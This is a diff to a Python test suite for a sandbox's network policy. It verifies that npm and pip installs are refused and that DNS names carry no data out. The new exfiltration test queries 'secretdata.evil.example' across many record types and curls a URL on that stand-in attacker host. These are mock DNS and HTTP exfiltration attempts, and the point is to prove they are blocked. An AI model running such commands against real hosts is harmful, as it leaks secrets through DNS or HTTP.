@@ -16,14 +16,24 @@ def closed(server):
     return make(server, {"version": 1, "extends": ["deny"]})
 
 
+def partly(server):
+    """A policy with rules, which says nothing of refused names."""
+    return make(server, policy({"host": "web.example"}))
+
+
 def refused(server, s, host, kind):
     return [r for r in records(server, s) if r["kind"] == kind and r.get("name") == host and r["verdict"] == "deny"]
 
 
 def test_npm(server):
-    s = closed(server)
-    if sh(server, s, "command -v npm")["exit_code"] != 0:
+    if sh(server, closed(server), "command -v npm")["exit_code"] != 0:
         raise Skip("npm is not installed")
+    for s in (closed(server), partly(server), make(server, "pypi"), make(server, "github-read")):
+        npm_is_refused(server, s)
+    equal(internet.NET.asked, [], "names that a resolver outside was asked")
+
+
+def npm_is_refused(server, s):
     done = sh(server, s, "cd /tmp && npm install --no-audit --no-fund --no-update-notifier --registry https://registry.npmjs.org/ left-pad 2>&1")
     check(done["exit_code"] != 0, "npm install worked")
     has(done["stdout"], "403", "what npm shows")
@@ -33,7 +43,11 @@ def test_npm(server):
 
 
 def test_pip(server):
-    s = closed(server)
+    for s in (closed(server), partly(server), make(server, "npm")):
+        pip_is_refused(server, s)
+
+
+def pip_is_refused(server, s):
     done = sh(server, s, f"{PYTHON} -m pip download --no-cache-dir --disable-pip-version-check -d /tmp/p --index-url https://pypi.org/simple requests 2>&1")
     if "No module named pip" in done["stdout"]:
         raise Skip("pip is not installed")
@@ -72,16 +86,26 @@ def ended(host, port):
 
 
 def test_names_that_do_not_resolve(server):
-    for network in (policy({"host": "web.example"}), {"version": 1, "extends": ["deny"], "refused_names": "nxdomain"}):
+    for network in (policy({"host": "web.example"}, refused_names="nxdomain"), {"version": 1, "extends": ["deny"], "refused_names": "nxdomain"}):
         s = make(server, network)
         check(sh(server, s, "getent hosts refused.example")["exit_code"] != 0, f"it resolves with {network}")
-    s = closed(server)
-    check(sh(server, s, "getent hosts db")["exit_code"] != 0, "a name without a dot resolves")
-    check(sh(server, s, "getent hosts refused.example")["exit_code"] == 0, "a refused name does not resolve")
+    for s in (closed(server), partly(server)):
+        check(sh(server, s, "getent hosts db")["exit_code"] != 0, "a name without a dot resolves")
+        check(sh(server, s, "getent hosts refused.example")["exit_code"] == 0, "a refused name does not resolve")
+
+
+def test_refused_names_carry_nothing_out(server):
+    """Data in names, of every type of question, by UDP and TCP, reaches no resolver."""
+    s = partly(server)
+    got = probe(server, s, """[dns(label + '.evil.example', kind, over=over)[0] for label in ('secretdata', 's' * 63)
+        for kind in (1, 28, 65, 16, 15, 33, 12, 255) for over in ('udp', 'tcp')]""")
+    equal(got, 2 * ([0] * 6 + [3] * 10), "answers: addresses exist, nothing else does")
+    sh(server, s, "curl -sS -m 20 https://secretdata.evil.example/secretdata")
+    equal(internet.NET.asked, [], "names that a resolver outside was asked")
 
 
 def test_a_policy_with_rules(server):
-    s = make(server, policy({"host": "web.example"}, refused_names="answer"))
+    s = partly(server)
     has(sh(server, s, "curl -sS -m 20 https://refused.example/")["stdout"], WHY, "a refused name")
     equal(sh(server, s, "curl -sS -m 20 -o /dev/null -w '%{http_code}' http://web.example/")["stdout"], "200", "one that is allowed")
 
